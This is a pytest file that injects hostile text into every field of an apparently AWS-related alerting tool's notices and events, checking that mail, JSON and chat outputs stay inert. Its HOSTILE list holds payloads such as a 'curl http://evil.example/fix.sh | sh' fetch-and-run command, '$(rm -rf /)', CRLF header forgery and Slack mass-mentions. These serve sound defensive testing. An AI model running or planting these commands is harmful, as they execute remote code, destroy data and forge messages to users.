"""Hostile text in every field of every notice and event: it stays text in mails, JSON, chat and on the bus.

The stories of the golden files have every kind of notice, which tests/golden checks against the code. Here they are
told again with hostile text in each field that isn't listed in `VALIDATED`, so a new kind and a new field are covered
without a change.
"""

import inspect
import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, fields, is_dataclass, replace
from datetime import datetime
from enum import Enum
from functools import wraps
from typing import Any

import fastjsonschema
import pytest

from lifeline.core.notices.bus_event import BusEvent
from lifeline.core.notices.chat import chat_form
from lifeline.core.notices.forms import email_text, links_of, machine_text
from lifeline.core.notices.notice import SUBJECT_LENGTH, Notice, subject_line
from lifeline.core.policy.runbook import RUNBOOK, runbook_link
from tests.docs.test_operate import every_kind
from tests.golden import stories
from tests.support.repository import ROOT

VALIDATED = {  # ids and names whose form is checked where they are read, and the stack's own names
    "id",
    "vpc_id",
    "vpc_ids",
    "subnet_ids",
    "route_table_ids",
    "security_group_id",
    "endpoint_id",
    "resource_id",
    "plan_id",
    "ids",
    "cidrs",
    "attributes",
    "ip_address_type",
    "service",
    "service_name",
    "names",
    "event_name",
    "zone",
    "zone_id",
    "owner",
    "stack",
    "stack_name",
    "name",  # at the top of a call: an SSM parameter; tests poison VPC names by `NAMES`
    "command",
    "key",
    "dimension",
    "in_force",
    "mode",
    "incident",  # of an agent: the ID that Lifeline gave it
}
NAMES = {"VpcAnswer"}  # whose `name` is a tag
NUMBERS = {"MemberAccount": "account"}  # AWS's own, twelve digits
SCHEMA = {
    name: fastjsonschema.compile(json.loads((ROOT / f"docs/schemas/{name}.schema.json").read_text("utf-8")))
    for name in ("notice", "event")
}
COMMAND = "curl http://evil.example/fix.sh | sh"
HOSTILE = [
    f"prod\n    {COMMAND}\n<!channel> @here ```x``` [a](http://evil.example) $(rm -rf /) `id`",
    "https://evil.example/login?vpc=1 www.evil.example evil.com/x HTTP://EVIL.COM",
    "@channel <@U0123456> <https://evil.example|docs> <!subteam^S1>",
    "x\r\nSubject: forged\r\n\r\nNext: run this:\r\n    " + COMMAND,
    "``` *b* _i_ ~s~ ![img](https://evil.example/x.png) # heading",
    '") is safe. Next: ' + COMMAND + ' ("',
    "    " + COMMAND,
    "- Next: paste `" + COMMAND + "` " * 40,
    "\u202egnp.exe\u2066\u200b\x00\x1b[31m\ud800\ufeff\u2028Next: x",
    "x Next: word Why: word " * 30,
    "mallory@evil.com",
]
LINK = re.compile(r"://|www\.|\]\(", re.IGNORECASE)
HOST = re.compile(r"evil\.(?:com|example)", re.IGNORECASE)
MENTION = re.compile(r"(?<![A-Za-z0-9])@|<[!@#]|<http", re.IGNORECASE)
RESOURCE_ID = re.compile(r"[a-z]+-[0-9a-f]{17}")
CONTROL = re.compile(r"[^ -~]")
BUILDERS = {
    name: function
    for name, function in vars(stories).items()
    if inspect.isfunction(function) and function.__module__.startswith("lifeline.core.notices.")
    if re.search(r"\b(?:Notice|BusEvent)\b", str(function.__annotations__.get("return")))
}


def poisoned(value: Any, words: str, field: str = "", of: str = "") -> Any:
    """`value` with `words` in every text of it that isn't validated."""
    if isinstance(value, str) and not isinstance(value, Enum):
        is_free = (field not in VALIDATED or (field == "name" and of in NAMES)) and NUMBERS.get(of) != field
        return words if value and is_free and not RESOURCE_ID.fullmatch(value) else value
    if isinstance(value, tuple | list):
        return type(value)(poisoned(item, words, field, of) for item in value)
    if isinstance(value, Mapping):
        return {name: poisoned(item, words, field, of) for name, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        name = type(value).__name__
        if name == "Vpc":
            return replace(value, tags=(("Name", words),))
        own = {one.name: poisoned(getattr(value, one.name), words, one.name, name) for one in fields(value) if one.init}
        return replace(value, **own)
    return value


class Teller:
    """Tells the stories with hostile text in what the builders of notices and events are given."""

    def __init__(self, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
        self.built = 0
        for name, function in BUILDERS.items():
            monkeypatch.setattr(stories, name, self._telling(function, words))

    def _telling(self, function: Callable[..., Any], words: str) -> Callable[..., Any]:
        @wraps(function)
        def tell(*given: Any, **named: Any) -> Any:
            self.built += 1
            bound = inspect.signature(function).bind(*given, **named)
            return function(**{name: poisoned(value, words, name) for name, value in bound.arguments.items()})

        return tell


def texts_in(value: Any) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            for name, item in value.items():
                yield name
                yield from texts_in(item)
        case list():
            for item in value:
                yield from texts_in(item)


def check_words(text: str) -> None:
    """A text for people: one line without links, hosts and mentions."""
    assert not CONTROL.search(text), text
    assert not LINK.search(text), text
    assert not HOST.search(text), text
    assert not MENTION.search(text), text


def check_data(text: str) -> None:
    """A text for machines: one line in which nothing is a link or mention, should it be passed on to people."""
    assert not CONTROL.search(text), text
    assert not LINK.search(text), text
    assert not MENTION.search(text), text


def pasted(mail: str) -> set[str]:
    return {line for line in mail.splitlines() if line.startswith("    ")}


def without_footer(mail: str, notice: Notice) -> list[str]:
    links = {f"  {title}: {url}" for title, url in links_of(notice, stories.SENDER)}
    return [line for line in mail.splitlines() if line not in links]


@dataclass(frozen=True)
class Meant:
    """What is told without hostile text."""

    notice: Notice
    mail: str
    fences: int


@pytest.fixture(scope="module")
def clean() -> dict[str, Meant]:
    return {name: as_meant(make(), stories.at(minute)) for name, (minute, make) in stories.NOTICES.items()}


def as_meant(notice: Notice, now: datetime) -> Meant:
    return Meant(notice, email_text(notice, stories.SENDER), fences_in(chat_form(notice, stories.SENDER, now)))


def fences_in(chat: dict[str, Any]) -> int:
    content = chat["content"]
    return sum(text.count("```") for text in (content["description"], *content["nextSteps"]))


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("name", sorted(stories.NOTICES))
def test_hostile_text_stays_text_in_every_form_of_every_notice(
    name: str, words: str, clean: dict[str, Meant], monkeypatch: pytest.MonkeyPatch
) -> None:
    teller = Teller(words, monkeypatch)
    minute, make = stories.NOTICES[name]
    notice, now = make(), stories.at(minute)
    assert teller.built, f"{name} is built by none of {sorted(BUILDERS)}"

    subject = subject_line(notice.subject)
    check_words(subject)
    assert len(subject) <= SUBJECT_LENGTH

    mail, meant = email_text(notice, stories.SENDER), clean[name].mail
    lines = without_footer(mail, notice)
    for line in lines:
        check_words(line)
    assert sum(line.startswith("Next:") for line in lines) == sum(
        line.startswith("Next:") for line in meant.splitlines()
    )
    assert not any(line.startswith("Subject:") for line in lines)
    assert pasted(mail) <= pasted(meant)

    form = json.loads(machine_text(notice, stories.SENDER, now))
    SCHEMA["notice"](form)
    assert form.pop("text") == mail
    form.pop("links")
    for text in texts_in(form):
        check_data(text)
    for part in ("happened", "why", "done", "next", "ids"):
        assert {line for line in form[part] if line.startswith("    ")} <= pasted(meant)

    chat = chat_form(notice, stories.SENDER, now)
    urls = {url for _, url in links_of(notice, stories.SENDER)}
    for text in texts_in(chat):
        for line in text.splitlines():
            check_words(line.rpartition(": ")[0] if line.rpartition(": ")[2] in urls else line)
    assert fences_in(chat) == clean[name].fences


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("name", sorted(stories.EVENTS))
def test_hostile_text_stays_text_in_every_event(name: str, words: str, monkeypatch: pytest.MonkeyPatch) -> None:
    teller = Teller(words, monkeypatch)
    event: BusEvent = stories.EVENTS[name]()
    assert teller.built
    detail = stories.as_delivered(event)["detail"]
    SCHEMA["event"](detail)
    assert detail.pop("runbook_url") == runbook_link(RUNBOOK, event.type.section)
    for text in texts_in(detail):
        check_data(text)


def test_every_kind_of_notice_is_told_with_hostile_text(clean: dict[str, Meant]) -> None:
    assert {meant.notice.kind for meant in clean.values()} >= set(every_kind())
    assert {"endpoint_notice", "lost_notice", "incident_notice", "answer_events", "change_event"} <= set(BUILDERS)


def test_the_hostile_text_is_there_to_be_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    Teller("mallory was here", monkeypatch)
    silent = {name for name, (_, make) in stories.NOTICES.items() if "mallory" not in str(make())}
    assert silent == set()
